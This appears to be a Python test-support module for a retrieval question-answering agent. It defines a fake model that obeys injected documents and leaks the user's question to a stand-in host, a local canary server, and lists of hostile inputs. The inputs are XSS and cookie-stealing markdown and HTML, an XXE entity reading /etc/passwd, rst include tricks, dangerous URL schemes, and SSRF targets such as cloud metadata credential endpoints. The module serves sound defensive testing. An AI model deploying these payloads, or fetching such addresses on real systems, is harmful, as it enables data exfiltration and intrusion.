"""What a hostile document, asker or client would try, and a model that does whatever a document says."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from urllib.parse import quote

from query.agent import Exchange, Prompt

LEAK = "http://leak.test/"


class ObedientLLM:
    """Does what documents want: says what the first passage says, to the letter, and tells others what was asked."""

    def generate(self, prompt: Prompt) -> str:
        address = f"{LEAK}?q={quote(prompt.question)}"
        leaks = f"![x]({address}) [more]({address}) <img src='{address}'> [y][z]\n\n[z]: {address}"
        return f"{prompt.sources[0].passages[0].content}\n\nSo it says [1]. {leaks}"

    def stream(self, prompt: Prompt) -> Iterator[str]:
        text = f"It says this [1]:\n\n{self.generate(prompt)}"
        yield from (text[start : start + 7] for start in range(0, len(text), 7))

    def make_self_contained(self, question: str, history: Sequence[Exchange]) -> str:
        return question


@dataclass(slots=True)
class Canary:
    """A server that nobody has any business with, and how often somebody came nevertheless."""

    port: int
    visits: list[bytes] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/canary"


@contextmanager
def running_canary() -> Iterator[Canary]:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        canary = Canary(listener.getsockname()[1])

        def listen() -> None:
            while True:
                try:
                    visitor, _ = listener.accept()
                except OSError:
                    return
                with visitor:
                    visitor.settimeout(1)
                    canary.visits.append(visitor.recv(1024))

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        yield canary
        listener.shutdown(socket.SHUT_RDWR)
        thread.join(timeout=5)


def acting(canary: str) -> list[str]:
    """Markdown that would act in a page: fetch, run, or lead away with what was asked."""
    return [
        f"![x]({canary}?q=secret)",
        f"![x]( {canary} 'title')",
        f"![x][y]\n\n[y]: {canary}",
        f"[![x]({canary})]({canary})",
        f"[click here]({canary}?q=secret)",
        f"<img src='{canary}?q=secret' onerror='alert(1)'>",
        "<script>alert(document.cookie)</script>",
        f"<iframe src='{canary}'></iframe><svg onload=alert(1)>",
        f"<{canary}>",
        "[x](javascript:alert%281%29)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        f"\\`<img src='{canary}'>\\`",
        f"> ```\n<img src='{canary}'>\n```",
    ]


def fetching(canary: str) -> list[tuple[str, str]]:
    """Documents of which a careless reader would fetch something, each with its content type."""
    entity = f'<!DOCTYPE x [<!ENTITY y SYSTEM "{canary}"><!ENTITY z SYSTEM "file:///etc/passwd">]><p>&y; &z; word</p>'
    page = (
        f"<html><head><base href='{canary}'><link rel=stylesheet href='{canary}/a.css'><script src='{canary}/a.js'>"
        f"</script><meta http-equiv=refresh content='0;url={canary}'></head><body><img src='{canary}/a.png'>"
        f"<iframe src='{canary}'></iframe><object data='{canary}'></object><p>The word.</p></body></html>"
    )
    return [
        (entity, "text/html"),
        (page, "text/html"),
        (f"![a]({canary}) word\n\n<{canary}>\n\n[a]: {canary}", "text/markdown"),
        (
            f"word\n\n.. include:: /etc/passwd\n\n.. image:: {canary}\n\n.. raw:: html\n   :url: {canary}\n",
            "text/x-rst",
        ),
        (f"word\n\n.. include:: {canary}\n\n.. csv-table::\n   :url: {canary}\n", "text/x-rst"),
    ]


REFUSED_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "ftp://127.0.0.1/",
    "dict://127.0.0.1:11211/",
    "ldap://127.0.0.1/",
    "jar:http://127.0.0.1!/",
    "blob:http://127.0.0.1/",
]


def addresses_never_fetched(canary: str) -> list[str]:
    """Addresses that a document may name, as names; inside every network they lead to something."""
    return [
        canary,
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://[::1]:5432/",
        "http://0x7f000001/",
        "http://localhost:6379/",
        "//127.0.0.1/x",
        "/../../etc/passwd",
    ]
